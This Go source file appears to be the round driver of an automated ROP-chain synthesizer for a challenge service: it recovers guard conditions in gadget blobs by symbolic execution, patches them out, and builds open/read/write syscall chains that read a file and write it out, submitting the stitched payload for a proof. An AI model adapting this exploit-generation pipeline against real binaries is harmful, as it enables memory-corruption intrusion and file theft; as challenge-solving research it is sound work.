// Package round drives one challenge round from gadget bytes to a
// stitched payload, and a whole run of rounds over a session.
package round

import (
	"context"
	"errors"
	"fmt"

	"golang.org/x/arch/x86/x86asm"

	"github.com/zjy-dev/ropsynth/internal/cfg"
	"github.com/zjy-dev/ropsynth/internal/config"
	"github.com/zjy-dev/ropsynth/internal/disasm"
	"github.com/zjy-dev/ropsynth/internal/guard"
	"github.com/zjy-dev/ropsynth/internal/image"
	"github.com/zjy-dev/ropsynth/internal/logger"
	"github.com/zjy-dev/ropsynth/internal/report"
	"github.com/zjy-dev/ropsynth/internal/state"
	"github.com/zjy-dev/ropsynth/internal/stitch"
	"github.com/zjy-dev/ropsynth/internal/symex"
	"github.com/zjy-dev/ropsynth/internal/synth"
)

const (
	sysRead  = 0
	sysWrite = 1
	sysOpen  = 2

	oRdonly = 0
)

var (
	// ErrNoMoveGadget means the round has no mov rdx, rax gadget.
	ErrNoMoveGadget = errors.New("no mov rdx, rax gadget")
	// ErrUnrecognizedGadget means a chain uses a gadget without a
	// recovered guard.
	ErrUnrecognizedGadget = stitch.ErrUnrecognizedGadget
	// ErrRejected means the service answered NG.
	ErrRejected = errors.New("payload rejected by service")
)

// Session is the service connection a run talks to.
type Session interface {
	ReadChallenge(ctx context.Context) (string, []byte, error)
	Submit(ctx context.Context, payload []byte) error
	ReadStatus(ctx context.Context) (bool, error)
	ReadProof(ctx context.Context) (string, error)
}

// Chain is one synthesized chain before and after stitching.
type Chain struct {
	Name     string
	Raw      *synth.RawChain
	Stitched []byte
}

// Result is everything a round produced.
type Result struct {
	Stage     string
	Functions int
	Guards    []*guard.Guard
	Skipped   []uint64
	Solutions guard.Solutions
	Chains    []Chain
	Payload   []byte
}

// Runner solves rounds.
type Runner struct {
	cfg      *config.Config
	builder  *image.Builder
	solver   symex.Solver
	dec      *disasm.Decoder
	machine  state.Manager
	reporter report.Reporter
}

// NewRunner creates a runner. machine tracks the phases of Run; a nil
// reporter disables round reports.
func NewRunner(c *config.Config, machine state.Manager, reporter report.Reporter) (*Runner, error) {
	builder, err := image.NewBuilder(c.Image.TemplatePath, c.Image.BaseAddr, c.Image.PageSize)
	if err != nil {
		return nil, err
	}
	solver, err := symex.NewSolver(c.Recovery.Solver, nil)
	if err != nil {
		return nil, err
	}
	dec, err := disasm.NewDecoder(disasm.IntelSyntax)
	if err != nil {
		return nil, err
	}
	if machine == nil {
		machine = state.NewMachine("")
	}
	return &Runner{
		cfg:      c,
		builder:  builder,
		solver:   solver,
		dec:      dec,
		machine:  machine,
		reporter: reporter,
	}, nil
}

// Machine returns the state machine tracking Run.
func (r *Runner) Machine() state.Manager { return r.machine }

// Run plays every round on sess and returns the proof.
func (r *Runner) Run(ctx context.Context, sess Session) (string, error) {
	for i := 1; i <= r.cfg.Rounds; i++ {
		stage, blob, err := sess.ReadChallenge(ctx)
		if err != nil {
			return "", r.fail(fmt.Errorf("round %d: %w", i, err))
		}

		res, err := r.round(ctx, stage, blob, r.machine)
		if err != nil {
			return "", r.fail(fmt.Errorf("round %d: %w", i, err))
		}

		if err := r.machine.Transition(state.Submit); err != nil {
			return "", r.fail(err)
		}
		if err := sess.Submit(ctx, res.Payload); err != nil {
			return "", r.fail(fmt.Errorf("round %d: submitting: %w", i, err))
		}
		if err := r.machine.Transition(state.AwaitStatus); err != nil {
			return "", r.fail(err)
		}
		ok, err := sess.ReadStatus(ctx)
		if err != nil {
			return "", r.fail(fmt.Errorf("round %d: %w", i, err))
		}
		if !ok {
			return "", r.fail(fmt.Errorf("round %d: %w", i, ErrRejected))
		}
		logger.Info("Round %d (stage %s) accepted", i, stage)

		next := state.AwaitGadgets
		if i == r.cfg.Rounds {
			next = state.Done
		}
		if err := r.machine.Transition(next); err != nil {
			return "", r.fail(err)
		}
		r.save()
	}

	proof, err := sess.ReadProof(ctx)
	if err != nil {
		return "", fmt.Errorf("reading proof: %w", err)
	}
	return proof, nil
}

// Round solves a single round with its own state. Nothing carries over
// between calls.
func (r *Runner) Round(ctx context.Context, stage string, blob []byte) (*Result, error) {
	return r.round(ctx, stage, blob, state.NewMachine(""))
}

func (r *Runner) round(ctx context.Context, stage string, blob []byte, m state.Manager) (*Result, error) {
	if err := m.Transition(state.BuildImage); err != nil {
		return nil, err
	}
	m.SetStage(stage)

	w, err := r.load(blob)
	if err != nil {
		return nil, err
	}

	if err := m.Transition(state.RecoverGuards); err != nil {
		return nil, err
	}
	res, err := w.recoverAll(ctx, r.recoveryOptions(), true)
	if err != nil {
		return nil, err
	}
	res.Stage = stage

	if err := m.Transition(state.SynthesizeChains); err != nil {
		return nil, err
	}
	if err := r.synthesize(w, res); err != nil {
		return nil, err
	}

	if err := m.Transition(state.Validate); err != nil {
		return nil, err
	}
	if err := validate(res); err != nil {
		return nil, err
	}

	if err := m.Transition(state.Stitch); err != nil {
		return nil, err
	}
	for i := range res.Chains {
		c := &res.Chains[i]
		if c.Stitched, err = stitch.Stitch(c.Raw, res.Solutions); err != nil {
			return nil, fmt.Errorf("stitching %s chain: %w", c.Name, err)
		}
		res.Payload = append(res.Payload, c.Stitched...)
	}

	m.UpdateStats(stats(res))
	logger.Info("Stage %s: %d guards, payload %d bytes", stage, len(res.Guards), len(res.Payload))
	r.saveReport(m.GetState().Round, res)
	return res, nil
}

// Analyze recovers the guards of blob without synthesizing chains.
func (r *Runner) Analyze(ctx context.Context, blob []byte) (*Result, error) {
	w, err := r.load(blob)
	if err != nil {
		return nil, err
	}
	return w.recoverAll(ctx, r.recoveryOptions(), false)
}

func (r *Runner) recoveryOptions() symex.Options {
	return symex.Options{
		StackWords: r.cfg.Recovery.StackWords,
		StepBound:  r.cfg.Recovery.StepBound,
		MaxActive:  r.cfg.Recovery.MaxActive,
	}
}

// workspace is the per-round image and the engine bound to it.
type workspace struct {
	img       *image.Image
	engine    *symex.Engine
	functions []*cfg.Function
	dec       *disasm.Decoder
}

func (r *Runner) load(blob []byte) (*workspace, error) {
	img, err := r.builder.Build(blob)
	if err != nil {
		return nil, fmt.Errorf("building image: %w", err)
	}
	engine, err := symex.NewEngine(img, r.solver)
	if err != nil {
		return nil, err
	}
	functions, err := cfg.Recover(img, r.dec)
	if err != nil {
		return nil, fmt.Errorf("recovering functions: %w", err)
	}
	logger.Debug("image at %#x: %d functions", img.Base(), len(functions))
	return &workspace{img: img, engine: engine, functions: functions, dec: r.dec}, nil
}

// recoverAll recovers every function's guard and records its solution.
// With neutralize set, each guard boundary is patched to a ret.
func (w *workspace) recoverAll(ctx context.Context, opts symex.Options, neutralize bool) (*Result, error) {
	res := &Result{Functions: len(w.functions), Solutions: guard.NewSolutions()}
	recoverer := guard.NewRecoverer(w.engine, opts)
	neutralizer := guard.NewNeutralizer(w.img, w.engine)

	for _, fn := range w.functions {
		g, err := recoverer.Recover(ctx, fn)
		if errors.Is(err, guard.ErrMalformedGadget) {
			logger.Debug("skipping %#x: %v", fn.Entry, err)
			res.Skipped = append(res.Skipped, fn.Entry)
			continue
		}
		if err != nil {
			return nil, err
		}
		res.Guards = append(res.Guards, g)
		res.Solutions.Record(g)

		if neutralize && !g.Unconditional() {
			if err := neutralizer.Neutralize(g.Boundary); err != nil {
				return nil, err
			}
		}
	}
	return res, nil
}

func (r *Runner) synthesize(w *workspace, res *Result) error {
	catalog, err := synth.Scan(w.img, w.dec)
	if err != nil {
		return err
	}
	logger.Debug("catalog: %d gadgets", catalog.Len())

	c := r.cfg.Chain
	scratch := synth.Range{Start: c.ScratchStart, End: c.ScratchEnd}

	open, err := catalog.DoSyscall(sysOpen, []uint64{c.PathAddr, oRdonly, 0}, scratch)
	if err != nil {
		return fmt.Errorf("open chain: %w", err)
	}
	read, err := catalog.DoSyscall(sysRead, []uint64{c.ReadFD, c.PathAddr, c.ReadLength}, scratch)
	if err != nil {
		return fmt.Errorf("read chain: %w", err)
	}
	write, err := catalog.DoSyscall(sysWrite, []uint64{c.WriteFD, c.PathAddr}, scratch)
	if err != nil {
		return fmt.Errorf("write chain: %w", err)
	}
	mov, ok := catalog.FindRegMove(x86asm.RAX, x86asm.RDX)
	if !ok {
		return ErrNoMoveGadget
	}

	res.Chains = []Chain{
		{Name: "open", Raw: open},
		{Name: "read", Raw: read},
		{Name: "move", Raw: synth.MoveChain(mov)},
		{Name: "write", Raw: write},
	}
	return nil
}

// validate checks that every gadget of every chain has a solution.
func validate(res *Result) error {
	for _, c := range res.Chains {
		for _, g := range c.Raw.Gadgets {
			if !res.Solutions.Has(g.Addr) {
				return fmt.Errorf("%w: %s chain uses %#x (%s)", ErrUnrecognizedGadget, c.Name, g.Addr, g)
			}
		}
	}
	return nil
}

func stats(res *Result) state.RoundStats {
	s := state.RoundStats{
		Functions:     res.Functions,
		Guards:        len(res.Guards),
		Skipped:       len(res.Skipped),
		Solutions:     res.Solutions.Len(),
		PayloadLength: len(res.Payload),
	}
	for _, g := range res.Guards {
		if g.Unconditional() {
			s.Unconditional++
		}
	}
	return s
}

func (r *Runner) fail(err error) error {
	r.machine.Fail(err)
	r.save()
	return err
}

func (r *Runner) save() {
	if err := r.machine.Save(); err != nil {
		logger.Warn("failed to save run state: %v", err)
	}
}

func (r *Runner) saveReport(round int, res *Result) {
	if r.reporter == nil {
		return
	}
	if err := r.reporter.Save(Summary(round, res)); err != nil {
		logger.Warn("failed to save round report: %v", err)
	}
}

// Summary converts a result for the reporter.
func Summary(round int, res *Result) *report.RoundSummary {
	s := &report.RoundSummary{
		Round:     round,
		Stage:     res.Stage,
		Functions: res.Functions,
		Guards:    res.Guards,
		Skipped:   res.Skipped,
		Payload:   res.Payload,
	}
	for _, c := range res.Chains {
		cs := report.ChainSummary{Name: c.Name, Raw: c.Raw.Payload, Stitched: c.Stitched}
		for _, g := range c.Raw.Gadgets {
			cs.Gadgets = append(cs.Gadgets, fmt.Sprintf("%#x: %s", g.Addr, g))
		}
		s.Chains = append(s.Chains, cs)
	}
	return s
}
